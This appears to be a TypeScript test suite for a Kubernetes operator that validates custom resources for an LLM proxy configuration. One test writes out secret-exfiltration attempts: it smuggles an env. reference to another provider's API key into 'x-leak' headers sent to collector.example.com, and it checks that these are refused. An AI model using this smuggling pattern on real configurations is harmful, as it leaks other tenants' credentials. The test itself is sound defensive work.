import { test } from 'node:test';
import assert from 'node:assert/strict';
import { desiredState } from '../../operator/src/resources/desired.ts';
import { translate, isRejection } from '../../operator/src/resources/translate.ts';
import { cr, ref, sampleResources, sampleSecrets, secrets } from './operator-fixtures.ts';
import type { KindName } from '../../operator/src/resources/kinds.ts';

const verdict = (resources: ReturnType<typeof sampleResources>, ref: string, lookup = sampleSecrets()) => desiredState(resources, lookup).verdicts.get(ref);

test('valid resources are accepted with reason Valid', () => {
  const d = desiredState(sampleResources(), sampleSecrets());
  assert.equal(d.verdicts.size, 4);
  for (const v of d.verdicts.values()) assert.deepEqual({ accepted: v.accepted, reason: v.reason }, { accepted: true, reason: 'Valid' });
  assert.deepEqual(d.unattributed, []);
});

test('a missing Secret or Secret key: SecretNotFound naming both, the rest still renders', () => {
  const lookup = secrets({ 'default/openai-creds': { 'api-key': 'sk-1' }, 'default/vk-team-a': { other: 'x' } });
  const d = desiredState(sampleResources(), lookup);
  const anthropic = d.verdicts.get('Provider default/anthropic');
  assert.equal(anthropic?.accepted, false);
  assert.equal(anthropic?.reason, 'SecretNotFound');
  assert.match(anthropic?.message ?? '', /spec\.keys\[0\]\.valueFrom: Secret default\/anthropic-creds not found/);
  const vk = d.verdicts.get('VirtualKey default/team-a');
  assert.equal(vk?.reason, 'SecretNotFound');
  assert.match(vk?.message ?? '', /Secret default\/vk-team-a has no key 'value'/);
  // The routing rule targets anthropic, which is gone from the render: the rule is left out rather
  // than sending its traffic nowhere; openai stays.
  assert.equal(d.verdicts.get('RoutingRule default/to-anthropic')?.reason, 'ReferenceNotFound');
  assert.equal(d.verdicts.get('Provider default/openai')?.accepted, true);
  assert.deepEqual(Object.keys((d.input.document.providers ?? {}) as object), ['openai']);
  assert.equal(d.input.managed.virtual_keys, undefined);
});

test('schema errors of the proxy: InvalidSpec with the spec path and the reason', () => {
  const bad = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('openai-creds', 'api-key'), weight: -1 }], network_config: { max_retries: 99 } });
  const v = verdict([bad], 'Provider default/openai');
  assert.equal(v?.reason, 'InvalidSpec');
  assert.match(v?.message ?? '', /spec\.keys\[0\]\.weight: must be >= 0/);
  assert.match(v?.message ?? '', /spec\.network_config\.max_retries: must be <= 10/);
});

test("semantic errors of the whole document are pinned on the CR that caused them", () => {
  const resources = [
    ...sampleResources(),
    cr('VirtualKey', 'orphan', { valueFrom: ref('vk-team-a', 'value2'), provider_configs: [{ provider: 'mistral' }] }),
    cr('Provider', 'not-a-provider', { keys: [{ name: 'k', valueFrom: ref('openai-creds', 'api-key') }] }),
  ];
  const lookup = secrets({
    'default/openai-creds': { 'api-key': 'sk-openai-123' },
    'default/anthropic-creds': { key: 'sk-ant-456' },
    'default/vk-team-a': { value: 'sk-bf-team-a-secret', value2: 'sk-bf-orphan-secret' },
  });
  const d = desiredState(resources, lookup);
  const orphan = d.verdicts.get('VirtualKey default/orphan');
  assert.equal(orphan?.reason, 'ReferenceNotFound');
  assert.equal(orphan?.message, "spec.provider_configs[0].provider: provider 'mistral' is not configured");
  const unknown = d.verdicts.get('Provider default/not-a-provider');
  assert.equal(unknown?.reason, 'InvalidSpec');
  assert.match(unknown?.message ?? '', /^spec: unknown provider 'not-a-provider'/);
  for (const r of ['Provider default/openai', 'VirtualKey default/team-a', 'RoutingRule default/to-anthropic']) assert.equal(d.verdicts.get(r)?.accepted, true, r);
  assert.deepEqual(d.input.managed.virtual_keys, ['team-a']);
});

test('a virtual key whose provider is rejected is rejected in turn (checked until nothing changes)', () => {
  const resources = [
    cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('creds', 'missing') }] }),
    cr('VirtualKey', 'vk1', { valueFrom: ref('creds', 'vk'), provider_configs: [{ provider: 'openai' }] }),
  ];
  const d = desiredState(resources, secrets({ 'default/creds': { vk: 'sk-bf-0123456789' } }));
  assert.equal(d.verdicts.get('Provider default/openai')?.reason, 'SecretNotFound');
  assert.equal(d.verdicts.get('VirtualKey default/vk1')?.message, "spec.provider_configs[0].provider: provider 'openai' is not configured");
});

test('inline budget errors point at spec.budget; budget_id and budget together are refused', () => {
  const lookup = secrets({ 'default/s': { v: 'sk-bf-0123456789' } });
  const bad = cr('VirtualKey', 'vk', { valueFrom: ref('s', 'v'), budget: { max_limit: 5, reset_duration: 'daily' } });
  assert.match(verdict([bad], 'VirtualKey default/vk', lookup)?.message ?? '', /^spec\.budget\.reset_duration: must match pattern/);
  const both = cr('VirtualKey', 'vk', { valueFrom: ref('s', 'v'), budget_id: 'b', budget: { max_limit: 5, reset_duration: '1d' } });
  assert.match(verdict([both], 'VirtualKey default/vk', lookup)?.message ?? '', /spec\.budget_id: cannot be combined with spec\.budget/);
  const noLimit = cr('VirtualKey', 'vk', { valueFrom: ref('s', 'v'), rateLimit: { token_max_limit: 5 } });
  assert.match(verdict([noLimit], 'VirtualKey default/vk', lookup)?.message ?? '', /spec\.rateLimit\.token_reset_duration: is required with token_max_limit/);
});

test('secret material inline is refused: it belongs in a Secret', () => {
  const t = translate(cr('Provider', 'openai', { keys: [{ name: 'k', value: 'sk-plain' }] }), secrets({}));
  assert.ok(isRejection(t));
  assert.match(t.message, /spec\.keys\[0\]\.value: secret material is never a field: use valueFrom\.secretKeyRef/);
  const vk = translate(cr('VirtualKey', 'v', { name: 'v' }), secrets({}));
  assert.ok(isRejection(vk));
  assert.equal(vk.message, 'spec.valueFrom: is required (valueFrom.secretKeyRef names the Secret key holding the virtual key)');
});

test('routing rules: weights, CEL and scope checked by the proxy; duplicate names in a scope conflict', () => {
  const weights = cr('RoutingRule', 'w', { targets: [{ provider: 'openai', weight: 0.5 }] });
  assert.match(verdict([weights], 'RoutingRule default/w')?.message ?? '', /spec\.targets: weights must sum to 1/);
  const cel = cr('RoutingRule', 'c', { cel_expression: 'model ==', targets: [{ provider: 'openai', weight: 1 }] });
  assert.match(verdict([cel], 'RoutingRule default/c')?.message ?? '', /spec\.cel_expression: Failed to compile rule/);
  const older = cr('RoutingRule', 'first', { name: 'same', targets: [{ provider: 'openai', weight: 1 }] }, { created: '2025-01-01T00:00:00Z' });
  const newer = cr('RoutingRule', 'second', { name: 'same', targets: [{ provider: 'openai', weight: 1 }] }, { created: '2025-01-02T00:00:00Z' });
  // Whatever order they come in, the older one keeps its place.
  const openai = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('openai-creds', 'api-key') }] });
  for (const list of [[openai, older, newer], [newer, older, openai]]) {
    const d = desiredState(list, sampleSecrets());
    assert.equal(d.verdicts.get('RoutingRule default/first')?.accepted, true);
    assert.equal(d.verdicts.get('RoutingRule default/second')?.reason, 'Conflict');
  }
});

test('ids are unique across namespaces: the newer CR conflicts and says with whom', () => {
  const lookup = secrets({ 'a/s': { v: 'sk-bf-aaaaaaaaaa' }, 'b/s': { v: 'sk-bf-bbbbbbbbbb' } });
  const first = cr('VirtualKey', 'shared', { valueFrom: ref('s', 'v') }, { namespace: 'a', created: '2025-01-01T00:00:00Z' });
  const second = cr('VirtualKey', 'shared', { valueFrom: ref('s', 'v') }, { namespace: 'b', created: '2025-02-01T00:00:00Z' });
  const d = desiredState([second, first], lookup);
  assert.equal(d.verdicts.get('VirtualKey a/shared')?.accepted, true);
  const v = d.verdicts.get('VirtualKey b/shared');
  assert.equal(v?.reason, 'Conflict');
  assert.match(v?.message ?? '', /virtual_keys id 'shared' is already defined by VirtualKey a\/shared/);
});

test('a resource being deleted is left out and gets no verdict', () => {
  const resources = sampleResources();
  resources[0].metadata.deletionTimestamp = '2025-01-01T00:00:00Z';
  const d = desiredState(resources, sampleSecrets());
  assert.equal(d.verdicts.has('Provider default/openai'), false);
  // team-a now names a provider that is not configured.
  assert.equal(d.verdicts.get('VirtualKey default/team-a')?.accepted, false);
});

test('Webhook, MCPClient and CachePolicy render into webhooks, mcp.client_configs and plugins', () => {
  const lookup = secrets({ 'default/hook': { secret: 'whsec_c2VjcmV0' }, 'default/mcp': { token: 'Bearer abc' } });
  const resources = [
    cr('Webhook', 'jobs', { url: 'https://hooks.example.com/x', events: ['async_job.completed'], secretFrom: ref('hook', 'secret') }),
    cr('MCPClient', 'tools', { connection_type: 'http', connection_string: 'https://mcp.example.com', auth_type: 'headers', headersFrom: { Authorization: ref('mcp', 'token') } }),
    cr('CachePolicy', 'cache', { dimension: 1, ttl: '5m' }),
  ];
  const d = desiredState(resources, lookup);
  for (const v of d.verdicts.values()) assert.equal(v.accepted, true, v.message);
  const doc = d.input.document as Record<string, unknown>;
  assert.deepEqual(doc.webhooks, [{ events: ['async_job.completed'], name: 'jobs', secret: 'env.WEBHOOK_DEFAULT_JOBS_SECRET', url: 'https://hooks.example.com/x' }]);
  assert.deepEqual(doc.mcp, {
    client_configs: [
      {
        auth_type: 'headers',
        client_id: 'tools',
        connection_string: 'https://mcp.example.com',
        connection_type: 'http',
        headers: { Authorization: 'env.MCPCLIENT_DEFAULT_TOOLS_HEADER_AUTHORIZATION' },
        name: 'tools',
      },
    ],
  });
  assert.deepEqual(doc.plugins, [{ config: { dimension: 1, ttl: '5m' }, enabled: true, name: 'semantic_cache' }]);
  assert.deepEqual(Object.keys(d.input.secrets).sort(), ['MCPCLIENT_DEFAULT_TOOLS_HEADER_AUTHORIZATION', 'WEBHOOK_DEFAULT_JOBS_SECRET']);
  // One cache per configuration: a second CachePolicy conflicts.
  const two = desiredState([...resources, cr('CachePolicy', 'cache2', { dimension: 1 }, { created: '2026-01-01T00:00:00Z' })], lookup);
  assert.equal(two.verdicts.get('CachePolicy default/cache2')?.reason, 'Conflict');
});

test('examples/kubernetes/ (every kind) is accepted as a whole and renders every section', async () => {
  const { parseAllDocuments } = await import('yaml');
  const { readFileSync, readdirSync } = await import('node:fs');
  const dir = new URL('../../examples/kubernetes/', import.meta.url);
  type Doc = { kind: string; metadata: { name: string }; spec?: unknown; stringData?: Record<string, string> };
  const docs = readdirSync(dir).filter((f) => f.endsWith('.yaml')).flatMap((f) => parseAllDocuments(readFileSync(new URL(f, dir), 'utf8')).map((d) => d.toJS() as Doc));
  const lookup = secrets(Object.fromEntries(docs.filter((d) => d.kind === 'Secret').map((d) => [`default/${d.metadata.name}`, d.stringData ?? {}])));
  const resources = docs.filter((d) => d.kind !== 'Secret').map((d) => cr(d.kind as KindName, d.metadata.name, d.spec));
  const d = desiredState(resources, lookup);
  assert.equal(d.verdicts.size, resources.length);
  for (const [ref, v] of d.verdicts) assert.equal(v.accepted, true, `${ref}: ${v.message}`);
  assert.deepEqual(Object.keys(d.input.managed).sort(), ['budgets', 'customers', 'mcp_clients', 'plugins', 'providers', 'rate_limits', 'routing_rules', 'teams', 'virtual_keys', 'webhooks']);
});

test('an env. string in a CR is refused naming the field, and an empty Secret value is named', () => {
  const lookup = secrets({ 'default/s': { empty: '', v: 'sk-1' } });
  const envRef = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('s', 'v') }], network_config: { base_url: 'env.OPENAI_URL' } });
  const v = verdict([envRef], 'Provider default/openai', lookup);
  assert.equal(v?.reason, 'InvalidSpec');
  assert.match(v?.message ?? '', /^spec\.network_config\.base_url: 'env\.OPENAI_URL' is not allowed: a custom resource cannot name environment variables or entries of the rendered Secret/);
  const empty = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('s', 'empty') }] });
  assert.equal(verdict([empty], 'Provider default/openai', lookup)?.message, 'spec.keys[0].valueFrom: the Secret value it references is empty');
});

test("a resource cannot read another's Secret entries through env. in any field that resolves references", () => {
  const lookup = secrets({ 'default/openai-creds': { 'api-key': 'sk-openai-123' }, 'default/w': { secret: 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw' } });
  const openai = cr('Provider', 'openai', { keys: [{ name: 'primary', valueFrom: ref('openai-creds', 'api-key') }] });
  const stolen = 'env.PROVIDER_DEFAULT_OPENAI_KEYS_0_VALUE';
  const attempts = [
    cr('Provider', 'anthropic', { keys: [{ name: 'k', valueFrom: ref('openai-creds', 'api-key') }], network_config: { base_url: 'https://collector.example.com', extra_headers: { 'x-leak': stolen } } }),
    cr('Webhook', 'hook', { url: 'https://collector.example.com/h', events: ['async_job.completed'], secretFrom: ref('w', 'secret'), headers: { 'x-leak': stolen } }),
    cr('MCPClient', 'tools', { connection_type: 'http', connection_string: 'https://collector.example.com/mcp', auth_type: 'headers', headers: { 'x-leak': stolen } }),
    cr('VirtualKey', 'team-b', { valueFrom: ref('openai-creds', 'api-key'), description: stolen }),
  ];
  const fields = ['spec.network_config.extra_headers.x-leak', 'spec.headers.x-leak', 'spec.headers.x-leak', 'spec.description'];
  const d = desiredState([openai, ...attempts], lookup);
  attempts.forEach((a, i) => {
    const v = d.verdicts.get(`${a.kind} default/${a.metadata.name}`);
    assert.equal(v?.reason, 'InvalidSpec', `${a.kind}: ${v?.message}`);
    assert.ok(v?.message.startsWith(`${fields[i]}: '${stolen}' is not allowed`), v?.message);
  });
  // Nothing of them is rendered: the document names the openai key only where openai uses it.
  assert.deepEqual(d.input.managed, { providers: ['openai'] });
  assert.equal(JSON.stringify(d.input.document).split(stolen).length, 2);
  // Kinds whose section never resolves references keep such text as written.
  const rule = cr('RoutingRule', 'r', { name: 'env.prod', targets: [{ provider: 'openai', weight: 1 }] });
  assert.equal(desiredState([openai, rule], lookup).verdicts.get('RoutingRule default/r')?.accepted, true);
});

test('a virtual key with the value of a served one is refused naming it; the served one keeps serving', () => {
  const lookup = secrets({ 'default/vk': { a: 'sk-bf-same-value-1', b: 'sk-bf-same-value-1' }, 'other/vk': { v: 'sk-bf-same-value-1' } });
  const served = cr('VirtualKey', 'checkout', { valueFrom: ref('vk', 'a'), provider_configs: [{ provider: 'openai', allowed_models: ['*'], key_ids: ['*'] }] }, { created: '2025-01-01T00:00:00Z' });
  // Named to sort first, as the newcomer that used to take the value over did.
  const newcomer = cr('VirtualKey', 'aaa-copy', { valueFrom: ref('vk', 'b') }, { created: '2025-02-01T00:00:00Z' });
  const elsewhere = cr('VirtualKey', 'aaa-other', { valueFrom: ref('vk', 'v') }, { namespace: 'other', created: '2025-03-01T00:00:00Z' });
  const openai = cr('Provider', 'openai', { keys: [{ name: 'k', valueFrom: ref('vk', 'a') }] });
  for (const order of [[newcomer, served, elsewhere, openai], [openai, elsewhere, served, newcomer]]) {
    const d = desiredState(order, lookup);
    assert.deepEqual(d.verdicts.get('VirtualKey default/checkout'), { accepted: true, reason: 'Valid', message: 'The spec is valid and included in the rendered configuration.' });
    for (const ref of ['VirtualKey default/aaa-copy', 'VirtualKey other/aaa-other']) {
      const v = d.verdicts.get(ref);
      assert.equal(v?.reason, 'DuplicateValue');
      assert.match(v?.message ?? '', /^spec\.valueFrom: the Secret value it references is already the value of VirtualKey default\/checkout, which keeps serving it/);
      assert.ok(!v?.message.includes('sk-bf-same'), 'the message never holds the value');
    }
    assert.deepEqual(d.input.managed.virtual_keys, ['checkout']);
    assert.deepEqual(d.unattributed, []);
  }
});

test('created in the same second (or older but refused until now), the newcomer still does not evict the served one', () => {
  const lookup = secrets({ 'default/vk': { a: 'sk-bf-same-value-2', b: 'sk-bf-same-value-2' } });
  const served = cr('VirtualKey', 'checkout', { valueFrom: ref('vk', 'a') }, { created: '2025-02-01T00:00:00Z' });
  served.status = { conditions: [{ type: 'Accepted', status: 'True', reason: 'Valid', message: '', lastTransitionTime: '2025-02-01T00:00:01Z' }] };
  for (const created of ['2025-02-01T00:00:00Z', '2025-01-01T00:00:00Z']) {
    const newcomer = cr('VirtualKey', 'aaa-copy', { valueFrom: ref('vk', 'b') }, { created });
    const d = desiredState([newcomer, served], lookup);
    assert.equal(d.verdicts.get('VirtualKey default/checkout')?.reason, 'Valid');
    assert.equal(d.verdicts.get('VirtualKey default/aaa-copy')?.reason, 'DuplicateValue');
  }
});

test('a Provider naming an InferencePool without a namespace gets its own: the pool is its neighbour, not the proxies\'', () => {
  const own = translate(cr('Provider', 'vllm', { network_config: { inference_pool: { name: 'llama' } } }, { namespace: 'team-a' }), secrets({}));
  assert.ok(!isRejection(own), isRejection(own) ? own.message : '');
  assert.deepEqual((own.fragments[0].value as { network_config: unknown }).network_config, { inference_pool: { name: 'llama', namespace: 'team-a' } });
  const named = translate(cr('Provider', 'vllm', { network_config: { inference_pool: { name: 'llama', namespace: 'models' } } }, { namespace: 'team-a' }), secrets({}));
  assert.ok(!isRejection(named));
  assert.deepEqual((named.fragments[0].value as { network_config: unknown }).network_config, { inference_pool: { name: 'llama', namespace: 'models' } });
});
